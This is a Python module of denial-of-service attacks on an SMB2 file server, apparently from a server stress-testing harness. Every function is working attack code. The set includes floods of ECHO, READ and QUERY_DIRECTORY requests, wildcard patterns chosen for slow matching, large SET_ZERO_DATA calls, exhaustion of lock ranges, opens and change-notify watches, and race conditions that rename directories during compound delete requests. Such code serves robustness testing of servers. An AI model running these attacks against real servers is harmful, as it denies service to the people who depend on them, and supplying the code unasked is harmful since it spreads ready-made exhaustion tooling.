"""Attacks on other people's time: work that takes long, or stands where others have to pass. See
attacks_memory.py for how an attack is written. What they need on the server's disk is made by the
functions of `PREPARE`, on that disk itself."""
import collections
import contextlib
import os
import struct
import threading

import smb2_raw as raw
from peer import (CREATE_NEW, DIRECTORY_FILE, GENERIC_ALL, GENERIC_READ, NON_DIRECTORY_FILE, OPEN,
                  OPEN_IF, Refused, charge_of)

FSCTL_SET_SPARSE, FSCTL_SET_ZERO_DATA = 0x000900C4, 0x000980C8
FILE_END_OF_FILE, FILE_DISPOSITION = 20, 13
RESTART_SCANS, REOPEN = 0x01, 0x10
DELETE = 0x00110080  # and READ_ATTRIBUTES, SYNCHRONIZE
SHARED_LOCK, EXCLUSIVE_LOCK, UNLOCK, FAIL_IMMEDIATELY = 0x1, 0x2, 0x4, 0x10
LOCK_RANGES = 16_383
IN_FLIGHT = 300


def make_names(folder, count, prefix="name-"):
    """`count` empty files; a hard link each, as that is what is made soonest."""
    os.makedirs(folder, exist_ok=True)
    directory = os.open(folder, os.O_RDONLY)
    try:
        first = None
        for number in range(count):
            name = f"{prefix}{number:08d}"
            if first is not None:
                try:
                    os.link(first, name, src_dir_fd=directory, dst_dir_fd=directory)
                    continue
                except OSError:
                    pass  # it has as many as a file may have
            os.close(os.open(name, os.O_CREAT | os.O_WRONLY, 0o666, dir_fd=directory))
            first = name
    finally:
        os.close(directory)


def make_folders(folder, count):
    os.makedirs(folder, exist_ok=True)
    directory = os.open(folder, os.O_RDONLY)
    try:
        for number in range(count):
            os.mkdir(f"folder-{number:08d}", dir_fd=directory)
    finally:
        os.close(directory)


def listings(target, folder="many", count=IN_FLIGHT):
    """QUERY_DIRECTORYs of one handle on 60,000 names, each from the start, for a name that is not
    there."""
    with target.peer() as peer:
        handle = peer.open(folder, access=GENERIC_READ, options=DIRECTORY_FILE)
        peer.want_credits(count)
        body = raw.query_directory(handle, "*nothing*like*this*", flags=RESTART_SCANS | REOPEN)
        while True:
            ids = [peer.send(raw.QUERY_DIRECTORY, body) for _ in range(count)]
            yield {"asked": count}
            yield peer.statuses(ids)


def patterns(target, folder="long", count=8, repeats=200):
    """Patterns whose naive matching takes exponential or at least much time."""
    with target.peer() as peer:
        handles = [peer.open(folder, access=GENERIC_READ, options=DIRECTORY_FILE)
                   for _ in range(count)]
        peer.want_credits(count)
        while True:
            ids = [peer.send(raw.QUERY_DIRECTORY, raw.query_directory(
                handle, "*?" * repeats + "$", flags=RESTART_SCANS | REOPEN)) for handle in handles]
            yield {"asked": count}
            yield peer.statuses(ids)


def zero_data(target, size=3 << 30, count=1):
    """SET_ZERO_DATA of a large stream, `count` times at once."""
    with target.peer() as peer:
        peer.want_credits(count)
        stream = peer.open("zeroed:stream", access=GENERIC_ALL, disposition=OPEN_IF,
                           options=NON_DIRECTORY_FILE)
        grown = peer.call(raw.SET_INFO, raw.set_info(stream, struct.pack("<Q", size),
                                                     kind=FILE_END_OF_FILE))
        request = raw.ioctl(FSCTL_SET_ZERO_DATA, stream, struct.pack("<QQ", 0, size))
        while True:
            ids = [peer.send(raw.IOCTL, request) for _ in range(count)]
            yield {"grown": grown.status if grown else raw.DISCONNECTED}
            yield peer.statuses(ids)


def crowded_creates(target, folder="crowd", count=40):
    """CREATEs of new names in a folder with very many."""
    with target.peer() as peer:
        peer.want_credits(count)
        number = 0
        while True:
            ids = []
            for _ in range(count):
                number += 1
                ids.append(peer.send(raw.CREATE, raw.create(
                    rf"{folder}\New-{os.getpid()}-{number}", access=GENERIC_ALL,
                    disposition=CREATE_NEW, options=NON_DIRECTORY_FILE)))
            yield {"asked": count}
            yield peer.statuses(ids)


def lock_ranges(target, ranges=LOCK_RANGES, connections=2):
    """LOCK and UNLOCK of as many ranges as a request can name."""
    starts = range(0, ranges * 4, 4)
    with contextlib.ExitStack() as stack:
        peers = []
        for number in range(connections):
            peer = stack.enter_context(target.peer())
            peer.want_credits(64)
            peers.append((peer, peer.open(f"ranges-{number}", access=GENERIC_ALL,
                                          disposition=OPEN_IF, options=NON_DIRECTORY_FILE)))
        charge = 1 + (48 + 24 * ranges) // 65536
        while True:
            seen = {}
            sent = []
            for peer, file in peers:
                for flags in (EXCLUSIVE_LOCK | FAIL_IMMEDIATELY, UNLOCK):
                    sent.append((peer, peer.send(raw.LOCK, raw.lock(
                        file, [(start, 2, flags) for start in starts]), charge=charge)))
            yield {"asked": len(sent)}
            for peer, message_id in sent:
                answer = peer.wait_for(message_id)
                status = answer.status if answer else raw.DISCONNECTED
                seen[status] = seen.get(status, 0) + 1
            yield seen


def held_locks(target, name="held-locks", ranges=LOCK_RANGES, times=3):
    """Locks of one file, more than there are, which stay."""
    charge = 1 + (48 + 24 * ranges) // 65536
    with target.peer() as peer:
        peer.want_credits(64)
        file = peer.open(name, access=GENERIC_ALL, disposition=OPEN_IF, options=NON_DIRECTORY_FILE)
        seen = collections.Counter()
        for number in range(times):
            start = number * ranges * 4
            seen.update(peer.statuses([peer.send(raw.LOCK, raw.lock(
                file, [(start + 4 * each, 2, SHARED_LOCK | FAIL_IMMEDIATELY) for each in range(ranges)]),
                charge=charge)]))
        while True:
            yield dict(seen)


def echo_flood(target, count=8192, connections=1):
    """As many ECHOs in one go as there are credits for, again and again."""
    with contextlib.ExitStack() as stack:
        peers = [stack.enter_context(target.peer()) for _ in range(connections)]
        for peer in peers:
            peer.want_credits(count)
        while True:
            sent = []
            for peer in peers:
                number = min(count, peer.granted)
                first = peer.next_id
                peer.send_bytes(b"".join(raw.frame(peer.message(raw.ECHO, raw.plain(), credits=4))
                                         for _ in range(number)))
                sent.append((peer, range(first, first + number)))
            yield {"asked": sum(len(ids) for _, ids in sent)}
            for peer, ids in sent:
                peer.statuses(ids)
                peer.want_credits(count)


def read_flood(target, count=64, size=1 << 20):
    """Large READs of what is in the page cache, again and again, all answers taken."""
    charge = charge_of(size)
    with target.peer() as peer:
        file = peer.open("flood", access=GENERIC_ALL, disposition=OPEN_IF,
                         options=NON_DIRECTORY_FILE)
        peer.call(raw.SET_INFO, raw.set_info(file, struct.pack("<Q", size), kind=FILE_END_OF_FILE))
        peer.want_credits(count * charge)
        while True:
            ids = [peer.send(raw.READ, raw.read(file, size), charge=charge) for _ in range(count)]
            yield {"asked": count}
            yield peer.statuses(ids)


def frozen_writes(target, count=64, share="frozen", name="frozen-file"):
    """WRITEs to a file system that is frozen meanwhile; whoever calls freezes and thaws it."""
    with target.peer(share=share) as peer:
        file = peer.open(name, access=GENERIC_ALL, disposition=OPEN_IF, options=NON_DIRECTORY_FILE)
        peer._must(peer.call(raw.WRITE, raw.write(file, bytes(4096))), "WRITE")
        peer.want_credits(count)
        while True:
            ids = [peer.send(raw.WRITE, raw.write(file, bytes(4096), offset=4096 * number))
                   for number in range(count)]
            yield {"asked": count}
            yield peer.statuses(ids)


def root_opens(target, count=16_384):
    """Opens of the share's root that stay open."""
    with target.peer() as peer:
        peer.want_credits(256)
        seen = {}
        body = raw.create("", access=GENERIC_READ, options=DIRECTORY_FILE)
        for first in range(0, count, 128):
            ids = [peer.send(raw.CREATE, body) for _ in range(min(128, count - first))]
            for status, number in peer.statuses(ids).items():
                seen[status] = seen.get(status, 0) + number
        while True:
            yield dict(seen)


def watches(target, folder="folders", count=60_000):
    """CHANGE_NOTIFYs on empty folders, each through an open of its own; all that fit."""
    seen = {}
    with contextlib.ExitStack() as stack:
        left = iter(range(count))
        done = False
        while not done:
            peer = stack.enter_context(target.peer())
            peer.want_credits(2048)
            for _ in range(500):  # of a connection only so many may wait
                number = next(left, None)
                if number is None:
                    done = True
                    break
                handle = peer.open(rf"{folder}\folder-{number:08d}", access=GENERIC_READ,
                                   options=DIRECTORY_FILE)
                message_id = peer.send(raw.CHANGE_NOTIFY, raw.change_notify(handle, flags=1))
                waits = peer.wait_until_pending([message_id])
                status = "PENDING" if waits else peer.answers.pop(message_id).status
                seen[status] = seen.get(status, 0) + 1
        while True:
            yield dict(seen)


def root_watches(target, count=1000):
    """CHANGE_NOTIFYs on the share's root and all below it, each through an open of its own: who
    changes something would tell them all."""
    seen = collections.Counter()
    with contextlib.ExitStack() as stack:
        for first in range(0, count, 500):  # of a connection only so many may wait
            peer = stack.enter_context(target.peer())
            peer.want_credits(2048)
            for _ in range(min(500, count - first)):
                handle = peer.open("", access=GENERIC_READ, options=DIRECTORY_FILE)
                message_id = peer.send(raw.CHANGE_NOTIFY, raw.change_notify(handle, flags=1))
                waits = peer.wait_until_pending([message_id])
                seen["PENDING" if waits else peer.answers.pop(message_id).status] += 1
        while True:
            yield dict(seen)


def looked_up_folders(target, folder="folders", count=60_000):
    """Look-ups of a name that is not there in one empty folder after the other."""
    with target.peer() as peer:
        peer.want_credits(256)
        seen = collections.Counter()
        for first in range(0, count, 128):
            ids = [peer.send(raw.CREATE, raw.create(rf"{folder}\folder-{number:08d}\Nothing"))
                   for number in range(first, min(count, first + 128))]
            seen.update(peer.statuses(ids))
        while True:
            yield dict(seen)


def watch_all_and_leave(target, folder="folders", count=60_000):
    """CHANGE_NOTIFY on one folder after the other, cancelled by closing: a watch of an empty folder
    that nobody asks for any more shall not stay."""
    with target.peer() as peer:
        peer.want_credits(256)
        seen = {}
        for number in range(count):
            handle = peer.open(rf"{folder}\folder-{number:08d}", access=GENERIC_READ,
                               options=DIRECTORY_FILE)
            notify = peer.send(raw.CHANGE_NOTIFY, raw.change_notify(handle))
            peer.call(raw.CLOSE, raw.close(handle))
            answer = peer.wait_for(notify)
            status = answer.status if answer else raw.DISCONNECTED
            seen[status] = seen.get(status, 0) + 1
        while True:
            yield dict(seen)


def tree_watches(target, folder="folders"):
    """CHANGE_NOTIFY on a large tree, given up at once, again and again."""
    with target.peer() as peer:
        while True:
            handle = peer.open(folder, access=GENERIC_READ, options=DIRECTORY_FILE)
            notify = peer.send(raw.CHANGE_NOTIFY, raw.change_notify(handle, flags=1))
            closed = peer.call(raw.CLOSE, raw.close(handle))
            answer = peer.wait_for(notify)
            yield {"CLOSE": closed.status if closed else raw.DISCONNECTED,
                   "CHANGE_NOTIFY": answer.status if answer else raw.DISCONNECTED}


def moved_folder(target, way="rename"):
    """A directory is opened with DELETE, goes elsewhere or away, and is to be deleted."""
    number = 0
    with target.peer() as peer:
        while True:
            number += 1
            name = f"half-dead-{os.getpid()}-{number}"
            handle = peer.open(name, access=GENERIC_ALL, disposition=CREATE_NEW,
                               options=DIRECTORY_FILE)
            here = os.path.join(target.folder, name)
            if way == "remove":
                os.rmdir(here)
            else:
                os.rename(here, f"{here}-moved")
            answer = peer.call(raw.SET_INFO, raw.set_info(handle, b"\1", kind=FILE_DISPOSITION))
            seen = {"SET_INFO": answer.status if answer else raw.DISCONNECTED}
            if answer:
                answer = peer.call(raw.CLOSE, raw.close(handle))
                seen["CLOSE"] = answer.status if answer else raw.DISCONNECTED
            seen["there"] = os.path.isdir(here if way == "remove" else f"{here}-moved")
            yield seen
            if answer is None:
                raise Refused("the connection is gone")


def moved_in_compound(target, tries=200):
    """CREATE, SET_INFO and CLOSE in one compound while a local program moves the directory to and
    fro."""
    here = os.path.join(target.folder, f"to-and-fro-{os.getpid()}")
    there = f"{here}-2"
    enough = threading.Event()

    def move():
        while not enough.is_set():
            for source, goal in ((here, there), (there, here)):
                with contextlib.suppress(OSError):
                    os.rename(source, goal)

    mover = threading.Thread(target=move, daemon=True)
    mover.start()
    seen = {}
    try:
        with target.peer() as peer:
            peer.want_credits(64)
            while True:
                for _ in range(tries):
                    with contextlib.suppress(OSError):
                        os.mkdir(here)
                        os.chmod(here, 0o777)
                    ids = peer.send_compound([
                        (raw.CREATE, raw.create(os.path.basename(here), access=DELETE,
                                                disposition=OPEN, options=DIRECTORY_FILE), 1),
                        (raw.SET_INFO, raw.set_info(raw.NO_FILE, b"\1", kind=FILE_DISPOSITION), 1),
                        (raw.CLOSE, raw.close(raw.NO_FILE), 1)], related=True)
                    for status, number in peer.statuses(ids).items():
                        seen[status] = seen.get(status, 0) + number
                    if raw.DISCONNECTED in seen:
                        break
                yield dict(seen)
    finally:
        enough.set()
        mover.join()


ATTACKS = {
    "moved_folder": (2, moved_folder),
    "moved_in_compound": (2, moved_in_compound),
    "listings": (5, listings),
    "patterns": (5, patterns),
    "zero_data": (5, zero_data),
    "crowded_creates": (5, crowded_creates),
    "lock_ranges": (6, lock_ranges),
    "held_locks": (6, held_locks),
    "echo_flood": (6, echo_flood),
    "read_flood": (6, read_flood),
    "frozen_writes": (6, frozen_writes),
    "root_opens": (11, root_opens),
    "watches": (11, watches),
    "root_watches": (11, root_watches),
    "tree_watches": (11, tree_watches),
    "looked_up_folders": (11, looked_up_folders),
    "watch_all_and_leave": (11, watch_all_and_leave),
}
